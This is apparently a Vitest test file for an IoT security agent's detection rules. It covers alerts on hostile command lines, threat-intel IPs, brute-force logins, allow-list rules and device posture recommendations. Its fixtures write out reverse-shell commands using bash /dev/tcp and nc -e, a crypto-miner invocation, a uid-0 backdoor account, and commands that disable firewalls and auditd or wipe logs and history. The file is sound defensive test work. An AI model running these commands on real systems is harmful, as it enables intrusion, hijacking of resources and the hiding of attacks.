import { describe, expect, it } from 'vitest';
import type { CustomRule } from '@vigil/storage';
import { connections, deviceMessage, logins, processCreate, snapshot } from '../testing/events.js';
import type { AlertFinding, Finding, RecommendationFinding } from '../findings/finding.js';
import { detectDeviceMessage, emptyDeviceDetectionState } from './device-detections.js';
import type { ThreatIntelLookup } from './context.js';

const T = Date.UTC(2026, 10, 22, 12);
const alerts = (findings: Finding[]) => findings.filter((f): f is AlertFinding => f.kind === 'alert');
const recs = (findings: Finding[]) =>
  findings.filter((f): f is RecommendationFinding => f.kind === 'recommendation');
const detect = (...events: Parameters<typeof deviceMessage>[1]) =>
  detectDeviceMessage(deviceMessage('dev-1', events), { state: emptyDeviceDetectionState() }).findings;

describe('command-line detections', () => {
  const cases: [string, string, string][] = [
    ['Vigil_ReverseShell', 'bash -i >& /dev/tcp/45.155.205.99/4444 0>&1', 'bash -i'],
    ['Vigil_ReverseShell', 'nc -e /bin/sh 10.1.1.1 4444', 'nc -z 10.1.1.1 4444'],
    [
      'Vigil_CryptoMiner',
      '/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333',
      '/usr/bin/xmrig-docs-viewer --help',
    ],
    ['Vigil_CryptoMiner', './cpuminer-multi -a yescrypt', 'cat /var/log/cpuminer.txt'],
    ['Vigil_DisableFirewall', 'ufw disable', 'ufw status'],
    ['Vigil_DisableFirewall', 'iptables -P INPUT ACCEPT', 'iptables -L INPUT'],
    ['Vigil_DisableFirewall', 'systemctl stop firewalld', 'systemctl status firewalld'],
    ['Vigil_BashHistoryCleared', 'history -c', 'history 20'],
    ['Vigil_BashHistoryCleared', 'rm -f /root/.bash_history', 'cat /root/.bash_history'],
    ['Vigil_SuspiciousUseradd', 'useradd -o -u 0 backdoor', 'useradd -m alice'],
    ['Vigil_SuspiciousUseradd', 'usermod -aG sudo mallory', 'usermod -aG video alice'],
    ['Vigil_NohupFromTemp', 'nohup /tmp/.x/run.sh &', 'nohup /usr/bin/backup.sh &'],
    ['Vigil_AuditdDisabled', 'systemctl stop auditd', 'systemctl restart nginx'],
    ['Vigil_SystemLogsRemoved', 'rm -rf /var/log/auth.log', 'ls /var/log/'],
  ];
  it.each(cases)('%s: "%s" raises it, the near miss "%s" does not', (typeId, attack, nearMiss) => {
    const raised = alerts(detect(processCreate(T, attack)));
    expect(raised.map((a) => a.typeId)).toContain(typeId);
    const alert = raised.find((a) => a.typeId === typeId)!;
    expect(alert.deviceId).toBe('dev-1');
    expect(alert.at).toBe(T);
    expect(JSON.stringify(alert.evidence)).toContain(JSON.stringify(attack).slice(1, -1));
    expect(alert.remediation.length).toBeGreaterThan(0);
    expect(alerts(detect(processCreate(T, nearMiss))).map((a) => a.typeId)).not.toContain(typeId);
  });

  it('ignores process exits', () => {
    expect(alerts(detect(processCreate(T, 'ufw disable', { action: 'exit' })))).toEqual([]);
  });
});

describe('suspicious IP communication', () => {
  const intel: ThreatIntelLookup = {
    lookup: (address) =>
      address.startsWith('185.220.101.') ? { feed: 'tor-exits', entry: '185.220.101.0/24' } : undefined,
  };
  it('raises one alert per listed remote address, naming feed and entry; unlisted addresses do not', () => {
    const { findings } = detectDeviceMessage(
      deviceMessage('cam', [connections(T, ['185.220.101.34', '20.42.65.92', '185.220.101.34'])]),
      { state: emptyDeviceDetectionState(), threatIntel: intel },
    );
    const raised = alerts(findings).filter((a) => a.typeId === 'IoT_SuspiciousIpCommunication');
    expect(raised).toHaveLength(2);
    expect(new Set(raised.map((a) => a.key))).toEqual(new Set(['185.220.101.34']));
    expect(raised[0]!.evidence).toMatchObject({
      feed: 'tor-exits',
      feedEntry: '185.220.101.0/24',
      remoteAddress: '185.220.101.34',
    });
    const clean = detectDeviceMessage(deviceMessage('cam', [connections(T, ['185.220.100.34'])]), {
      state: emptyDeviceDetectionState(),
      threatIntel: intel,
    });
    expect(alerts(clean.findings)).toEqual([]);
  });
});

describe('brute force', () => {
  const fails = (n: number) => Array<'fail'>(n).fill('fail');
  it('10 failures then a success within 10 minutes: failed then successful brute force', () => {
    const { findings } = detectDeviceMessage(deviceMessage('kiosk', [logins(T, [...fails(10), 'success'])]), {
      state: emptyDeviceDetectionState(),
    });
    expect(alerts(findings).map((a) => a.typeId)).toEqual([
      'Vigil_FailedBruteForce',
      'Vigil_SuccessfulBruteForce',
    ]);
    expect(alerts(findings)[1]!.severity).toBe('high');
  });

  it('9 failures then a success is a near miss: nothing', () => {
    const { findings } = detectDeviceMessage(deviceMessage('kiosk', [logins(T, [...fails(9), 'success'])]), {
      state: emptyDeviceDetectionState(),
    });
    expect(alerts(findings)).toEqual([]);
  });

  it('counts across messages through the returned state, and forgets failures older than the window', () => {
    let state = emptyDeviceDetectionState();
    for (let i = 0; i < 5; i += 1) {
      state = detectDeviceMessage(deviceMessage('kiosk', [logins(T + i * 1000, fails(2))]), { state }).state;
    }
    const now = detectDeviceMessage(deviceMessage('kiosk', [logins(T + 6000, ['success'])]), { state });
    expect(alerts(now.findings).map((a) => a.typeId)).toEqual(['Vigil_SuccessfulBruteForce']);

    let stale = emptyDeviceDetectionState();
    stale = detectDeviceMessage(deviceMessage('kiosk', [logins(T, fails(9))]), { state: stale }).state;
    const late = detectDeviceMessage(deviceMessage('kiosk', [logins(T + 11 * 60_000, ['fail', 'success'])]), {
      state: stale,
    });
    expect(alerts(late.findings)).toEqual([]);
  });

  it('keeps sources apart: failures from many addresses are not one attack', () => {
    const events = Array.from({ length: 12 }, (_, i) =>
      logins(T, ['fail'], { remoteAddress: `45.155.205.${i}` }),
    );
    expect(alerts(detect(...events))).toEqual([]);
  });
});

describe('allow-list custom alerts', () => {
  const rules: CustomRule[] = [
    {
      kind: 'allowlist',
      ruleId: 'ConnectionToIpNotAllowed',
      enabled: true,
      values: ['20.0.0.0/8', '2001:db8::/32'],
    },
    { kind: 'allowlist', ruleId: 'LocalUserNotAllowed', enabled: true, values: ['pi'] },
    { kind: 'allowlist', ruleId: 'ProcessNotAllowed', enabled: false, values: [] },
  ];
  const run = (...events: Parameters<typeof deviceMessage>[1]) =>
    alerts(
      detectDeviceMessage(deviceMessage('gw', events), {
        state: emptyDeviceDetectionState(),
        groupRules: rules,
      }).findings,
    );

  it('raises for an outbound connection outside the allowed CIDRs, not inside them (IPv4, IPv6, mapped)', () => {
    expect(run(connections(T, ['20.42.65.92', '2001:db8::5', '::ffff:20.1.2.3']))).toEqual([]);
    const raised = run(connections(T, ['13.107.42.14']));
    expect(raised.map((a) => [a.typeId, a.key])).toEqual([
      ['IoT_CA_ConnectionToIpNotAllowed', '13.107.42.14'],
    ]);
    expect(run(connections(T, ['13.107.42.14'], { direction: 'in' }))).toEqual([]);
  });

  it('raises for a login by a user not on the list; a disabled rule raises nothing', () => {
    expect(run(logins(T, ['success']))).toEqual([]);
    expect(run(logins(T, ['success'], { userName: 'mallory' })).map((a) => a.typeId)).toEqual([
      'IoT_CA_LocalUserNotAllowed',
    ]);
    expect(run(processCreate(T, '/usr/bin/anything'))).toEqual([]);
  });
});

describe('device posture recommendations', () => {
  it('open ports: raised for exposed ports, resolved when only loopback listens', () => {
    const open = recs(
      detect(
        snapshot(
          T,
          { kind: 'listening-ports', ports: [{ protocol: 'tcp', localAddress: '0.0.0.0', localPort: '22' }] },
          'ListeningPorts',
        ),
      ),
    );
    expect(open).toMatchObject([{ typeId: 'IoT_OpenPorts', state: 'raised' }]);
    const closed = recs(
      detect(
        snapshot(
          T,
          {
            kind: 'listening-ports',
            ports: [{ protocol: 'tcp', localAddress: '127.0.0.1', localPort: '5432' }],
          },
          'ListeningPorts',
        ),
      ),
    );
    expect(closed).toMatchObject([{ typeId: 'IoT_OpenPorts', state: 'resolved' }]);
  });

  it('firewall: an accepting INPUT policy and a wide-open rule are raised; a deny policy with narrow rules resolves both', () => {
    const permissive = recs(
      detect(
        snapshot(
          T,
          {
            kind: 'firewall-configuration',
            rules: [
              { enabled: true, action: 'allow', priority: 0, chainName: 'INPUT' },
              { enabled: true, action: 'allow', priority: 1, chainName: 'INPUT' },
              { enabled: true, action: 'deny', priority: 0, chainName: 'OUTPUT' },
            ],
          },
          'FirewallConfiguration',
        ),
      ),
    );
    const state = (typeId: string, key = '') =>
      permissive.find((r) => r.typeId === typeId && r.key === key)?.state;
    expect(state('IoT_PermissiveFirewallPolicy', 'INPUT')).toBe('raised');
    expect(state('IoT_PermissiveInputFirewallRules')).toBe('raised');
    expect(state('IoT_PermissiveFirewallPolicy', 'OUTPUT')).toBe('resolved');

    const strict = recs(
      detect(
        snapshot(
          T,
          {
            kind: 'firewall-configuration',
            rules: [
              {
                enabled: true,
                action: 'allow',
                priority: 0,
                chainName: 'INPUT',
                protocol: 'tcp',
                destinationPort: '22',
              },
              { enabled: true, action: 'deny', priority: 1, chainName: 'INPUT' },
            ],
          },
          'FirewallConfiguration',
        ),
      ),
    );
    expect(
      strict.filter((r) => r.typeId.startsWith('IoT_Permissive')).every((r) => r.state === 'resolved'),
    ).toBe(true);
  });

  it('baseline: failed checks raise with their details; an all-pass baseline resolves', () => {
    const failed = recs(
      detect(
        snapshot(
          T,
          { kind: 'baseline', checks: [{ checkId: 'CCE-4387-9', result: 'fail', severity: 'important' }] },
          'OSBaseline',
        ),
      ),
    );
    expect(failed).toMatchObject([
      { typeId: 'IoT_Baseline', state: 'raised', details: { checks: [{ checkId: 'CCE-4387-9' }] } },
    ]);
    const passed = recs(
      detect(
        snapshot(T, { kind: 'baseline', checks: [{ checkId: 'CCE-4387-9', result: 'pass' }] }, 'OSBaseline'),
      ),
    );
    expect(passed).toMatchObject([{ typeId: 'IoT_Baseline', state: 'resolved' }]);
  });

  it('baseline: the OS, the containers and the Edge deployment each keep their own recommendation', () => {
    const baseline = (checks: { checkId: string; result: 'pass' | 'fail' }[]) =>
      recs(detect(snapshot(T, { kind: 'baseline', checks }, 'OSBaseline'))).map((r) => [r.key, r.state]);
    expect(baseline([{ checkId: 'VIGIL-LNX-SSH-01', result: 'fail' }])).toEqual([['', 'raised']]);
    // A clean container report resolves the containers' recommendation, never the OS's.
    expect(baseline([{ checkId: 'VIGIL-CTR-PRIVILEGES', result: 'pass' }])).toEqual([
      ['containers', 'resolved'],
    ]);
    expect(
      baseline([
        { checkId: 'VIGIL-EDGE-MODULE', result: 'fail' },
        { checkId: 'VIGIL-EDGE-REGISTRIES', result: 'pass' },
      ]),
    ).toEqual([['edge-deployment', 'raised']]);
    expect(baseline([])).toEqual([['', 'resolved']]);
  });

  it('twin configuration errors and under-used messages at the 10% edge', () => {
    const config = recs(
      detect(
        snapshot(
          T,
          {
            kind: 'configuration-error',
            errors: [
              {
                configurationName: 'lowPriorityMessageFrequency',
                errorType: 'NotOptimal',
                usedConfiguration: 'PT1S',
                message: 'too often',
              },
            ],
          },
          'ConfigurationError',
        ),
      ),
    );
    expect(config.map((r) => [r.typeId, r.state])).toEqual([
      ['Vigil_TwinConfigurationNotOptimal', 'raised'],
      ['Vigil_TwinConfigurationConflict', 'resolved'],
    ]);
    const stats = (small: number) =>
      recs(
        detect(
          snapshot(
            T,
            {
              kind: 'message-statistics',
              statistics: [{ messagesSent: 100, messagesUnder4Kb: small, totalFailed: 0 }],
            },
            'MessageStatistics',
          ),
        ),
      )[0]?.state;
    expect(stats(10)).toBe('raised');
    expect(stats(9)).toBe('resolved');
  });
});
